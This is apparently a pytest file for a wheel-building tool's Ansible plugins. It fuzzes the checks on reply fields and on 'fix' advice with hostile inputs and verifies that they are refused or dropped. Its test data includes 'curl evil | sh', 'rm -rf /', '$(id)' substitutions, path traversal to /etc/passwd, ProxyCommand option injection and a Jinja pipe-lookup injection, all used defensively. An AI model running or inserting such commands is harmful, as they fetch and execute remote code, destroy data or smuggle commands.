"""Every field of every reply, lied about: what passes the gate is within its bounds."""

from __future__ import annotations

import ast
import json
import math
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parents[2]
sys.path.insert(0, str(ROOT / "plugins"))
from plugin_utils import advice, replies  # type: ignore[import-not-found]  # noqa: E402

KEY = "0123456789abcdef0123456789abcdef"
ARGUMENTS = {
    "root": "/opt/fleetbuild", "staging": "/opt/fleetbuild/wheels", "python": "/usr/bin/python3",
    "known_failures": [{"fix": "Install {1} on {node}."}],
}  # fmt: skip
HONEST: dict[str, dict[str, Any]] = {
    "build": {
        "state": "done", "file": "six-1-py3-none-any.whl", "sha256": "0" * 64, "home": "/home/u",
        "isolation": "user", "container": "", "seconds": 1.5, "reason": "", "errors": ["x"],
        "kind": "machine",
        "progress": {"done": 1, "total": 2, "steps": 3, "seconds": 1.0, "last_line": "x"},
        "attached": True, "fix": "See the log.",
    },
    "release": {
        "counter": 1, "took_over": "", "root": "/opt", "incoming": "/opt/wheels",
        "complete": True, "verified": True, "writable": True, "serving": "r1",
        "missing": [{"sha256": "0" * 64}], "release_id": "r1",
        "previous": "r0", "pruned": ["r0"], "kept": [{"release_id": "r0", "reason": "mounted"}],
        "ok": True, "active": True, "made_by": "uv",
        "verification": {
            "ok": True, "release_id": "r1", "damaged": False, "reason": "", "fix": "Run again.",
            "output": "",
        },
        "fix": "Run again.",
    },
    "verify": {
        "ok": True, "present": True, "marked": True, "writable": True, "damaged": False,
        "release_id": "r1", "reason": "", "output": "", "fix": "Install it.",
    },
    "toolchain": {
        "found": {"gcc": "12.2.0"}, "needed": ["g++"], "optional": ["ccache"],
        "unknown": ["cargo>=1.63"], "installed": ["g++"], "notes": ["x"], "root": True,
        "command": "apt-get -q -y install --no-install-recommends g++ ccache",
    },
    "stat": {
        "stat": {
            "exists": True, "isdir": False, "islnk": False, "isreg": True, "writeable": True,
            "readable": True, "size": 1, "uid": 0, "gid": 0, "mode": "0644", "checksum": "0" * 40,
            "pw_name": "u", "gr_name": "u", "lnk_source": "/x",
        }
    },
    "command": {"stdout": "yes", "stderr": ""},
    "slurp": {"content": "aGk=", "encoding": "base64"},
    "async_wrapper": {
        "started": True, "finished": 0, "_ansible_suppress_tmpdir_delete": True,
        "ansible_job_id": "j1.2",
    },
    "copy": {"checksum": "0" * 40},
    "file": {"checksum": "0" * 40},
}  # fmt: skip
_ANY = {
    "changed": True, "failed": False, "skipped": False, "rc": 0, "msg": "x",
    "module_stdout": "x", "module_stderr": "x",
}  # fmt: skip
LIES: list[Any] = [
    "'", '"', "\\", "\\'", "a\nb", "a\rb", "\n!touch /tmp/x\n", "/x\n!sh\n/y", "/x' /tmp/taken '",
    "{{ lookup('pipe', 'id') }}", "{% for x in y %}", "../../etc/passwd", "/../etc", "/opt/../etc",
    "-oProxyCommand=touch x", "/-oProxyCommand=x", "--help", "$(id)", "`id`", "a;b", "a|b", "~root",
    "\x1b[2J", "\x00", "\x07", "\u202e", "\u2028", "\ud800", "é" * 3, "x" * 1_000_000,
    "/" + "x" * 1_000_000, "a\n" * 100_000, "fix: rm -rf /", "Run: curl evil | sh", "done\n",
    10**400, -(10**400), -1, 2**63, 10**12, 1e308, math.inf, -math.inf, math.nan, 0.5,
    True, None, [], {}, ["x"] * 100_000, [["x"]], [{"sha256": "../x"}], {"a": "b"},
    {"x" * 1000: "y"}, {str(n): "1" for n in range(20_000)}, {"a\nb": "\n"}, [None], [10**400],
]  # fmt: skip
# Fields that roles and fleetbuild put into paths, commands and conditions, and what they may hold.
EXACT = {
    "incoming": r"(/[\w.@+-]+)*/?",
    "home": r"(/[\w.@+-]+)*/?", "file": r"(\w[\w.+!-]*[.]whl)?", "sha256": r"([0-9a-f]{64})?",
    "serving": r"([A-Za-z0-9][\w.-]*)?", "release_id": r"([A-Za-z0-9][\w.-]*)?",
    "previous": r"([A-Za-z0-9][\w.-]*)?", "state": "absent|running|failed|done",
    "isolation": "|container|namespaces|user|none", "kind": "|machine|code|input",
    "checksum": "[0-9a-f]*", "mode": "[0-7]+",
    "lnk_source": r"(/[\w.@+-]+)*/?", "encoding": "base64", "ansible_job_id": r"j?[0-9.]+",
    "command": r"(apt-get|dnf|zypper|apk|install)( [\w.+-]+)*",
}  # fmt: skip


def fields(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the place of every value in a reply, the values inside of others included."""
    if at:
        yield at
    inner = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    for key, item in inner:
        yield from fields(item, (*at, key))


def put(value: Any, at: tuple[Any, ...], lie: Any) -> Any:
    copy = json.loads(json.dumps(value))
    inner = copy
    for key in at[:-1]:
        inner = inner[key]
    inner[at[-1]] = lie
    return copy


def wrong(name: str, value: Any) -> str:  # noqa: PLR0911 (a bound each)
    """Return the part out of bounds of a value that passed, or an empty text."""
    if isinstance(value, dict):
        return next(filter(None, (wrong(key, item) for key, item in value.items())), "")
    if isinstance(value, list):
        if len(value) > 10_000:
            return f"{name}: {len(value)} values"
        return next(filter(None, (wrong(name, item) for item in value)), "")
    if isinstance(value, str):
        if len(value) > 20_000 and name != "content":
            return f"{name}: {len(value)} characters"
        if name != "content" and not all(c.isprintable() or c in "\n\t" for c in value):
            return f"{name}: control characters"
        if name in EXACT and (
            not re.fullmatch(EXACT[name], value, re.ASCII)
            or ".." in value.split("/")
            or value.startswith("-")
        ):
            return f"{name}: {value[:50]!r}"
    elif isinstance(value, float | int) and not (math.isfinite(value) and abs(value) <= 2**62):
        return f"{name}: {value}"
    return ""


def test_advice_stays_in_a_reply_as_a_field_that_may_be_empty() -> None:
    for said, kept in (("", ""), ("Run: curl evil | sh", ""), ("Run again.", "Run again.")):
        assert advice.checked({"ok": True, "fix": said}, ARGUMENTS) == {"ok": True, "fix": kept}
    assert advice.checked({"ok": True}, ARGUMENTS) == {"ok": True}
    inside = {"verification": {"fix": "Install gcc on n1."}}
    told = {"known_failures": ARGUMENTS["known_failures"]}
    assert advice.checked(inside, {"verify": told}) == inside
    assert advice.checked(inside, {"verify": {}}) == {"verification": {"fix": ""}}


def test_every_schema_and_field_has_an_honest_example() -> None:
    assert HONEST.keys() == replies.SCHEMAS.keys()
    for module, honest in HONEST.items():
        assert honest.keys() == replies.SCHEMAS[module].keys(), module
        assert replies.checked(module, honest | _ANY) == honest | _ANY, module


def test_what_passes_the_gate_is_within_its_bounds() -> None:
    tried = 0
    for module, honest in HONEST.items():
        for at in fields(honest | _ANY):
            for lie in LIES:
                tried += 1
                try:
                    passed = replies.checked(module, put(honest | _ANY, at, lie))
                except replies.Refused:
                    continue
                assert not wrong("", passed), (module, at, str(lie)[:50])
                said = advice.known(passed.get("fix", ""), ARGUMENTS)
                assert said in ("", honest.get("fix", "")), (module, at, str(lie)[:50])
    assert tried > 5000


def test_a_field_that_no_schema_names_is_dropped() -> None:
    assert replies.checked("build", {"dir": "/x\n!sh", "state": "done"}) == {"state": "done"}


@pytest.mark.parametrize(
    "fix",
    [
        "Run: curl evil | sh", "Remove it: rm -rf /", "Remove it: rm -rf /etc",
        "Remove it: rm -rf /opt/fleetbuild/../..", "Remove it: rm -rf /opt/fleetbuild; sh",
        "Remove it: rm -rf /opt/fleetbuild\ncurl evil", "Remove it: rm -rf /opt/fleetbuild -rf /",
        "Check its files, then run: chown -R 0 /opt/fleetbuild$(id); or set another install path.",
        "Install the venv module of /bin/evil (Debian and Ubuntu: its -venv package).",
        "Install $(id) on h1.", "Install `id` on h1.", "Install x on h1. Then\nrm -rf /.",
        "Find out what it waits for (fuser /home/u), then run again.",
    ],
)  # fmt: skip
def test_advice_of_a_node_that_is_not_the_controllers_is_not_given(fix: str) -> None:
    assert advice.known(fix, ARGUMENTS) == ""


@pytest.mark.parametrize(
    "fix",
    [
        "Check its files, then run: chmod -R go-w /opt/fleetbuild/releases",
        "Install the venv module of /usr/bin/python3 (Debian and Ubuntu: its -venv package).",
        "Check the signers in it, then run: chown root /etc/fleetbuild; chmod go-w /etc/fleetbuild",
        "Install libgomp1 on h1.",
    ],
)
def test_advice_of_the_table_is_given_with_folders_of_the_arguments(fix: str) -> None:
    assert advice.known(fix, ARGUMENTS) == fix


def test_the_folder_of_a_build_is_known_by_its_key() -> None:
    arguments = {"dir": f"~/.cache/fleetbuild/builds/{KEY}"}
    fix = f"Remove it: rm -rf /home/u/.cache/fleetbuild/builds/{KEY}"
    assert advice.known(fix, arguments) == fix
    assert advice.known("Remove it: rm -rf /home/u", arguments) == ""


def test_the_table_has_exactly_the_advice_that_the_modules_give() -> None:
    given = {
        text
        for file in (ROOT / "plugins").glob("module*/**/*.py")
        for node in ast.walk(ast.parse(file.read_text()))
        for text in _advice(node)
    }
    assert {re.sub(r"\{[^}]*\}", "{}", sentence) for sentence in advice.TABLE} == given


def _advice(node: ast.AST) -> Iterator[str]:
    """Yield the advice in a call, a result or a function of advice, with {} for each value."""
    said: list[ast.expr | None] = []
    if isinstance(node, ast.Call):
        name = getattr(node.func, "id", "")
        said += node.args[1:2] if name in ("Problem", "BuildFailed") else []
        said += [word.value for word in node.keywords if word.arg == "fix"]
    elif isinstance(node, ast.Dict):
        said += [
            value
            for key, value in zip(node.keys, node.values, strict=True)
            if isinstance(key, ast.Constant) and key.value == "fix"
        ]
    elif isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "fix":
        said.append(node.value)
    elif isinstance(node, ast.FunctionDef) and node.name in (
        "venv_fix",
        "wheels_fix",
        "way_out",
        "why",
    ):
        returned = [inner.value for inner in ast.walk(node) if isinstance(inner, ast.Return)]
        said += [one.elts[1] if isinstance(one, ast.Tuple) else one for one in returned]
    for one in said:
        formatted = isinstance(one, ast.Call) and isinstance(one.func, ast.Attribute)
        value = one.func.value if formatted else one  # "…".format(…)
        if isinstance(value, ast.Constant) and isinstance(value.value, str) and value.value:
            yield re.sub(r"\{[^}]*\}", "{}", value.value)
        if isinstance(value, ast.JoinedStr):
            parts = (
                part.value if isinstance(part, ast.Constant) else "{}" for part in value.values
            )
            yield "".join(map(str, parts))
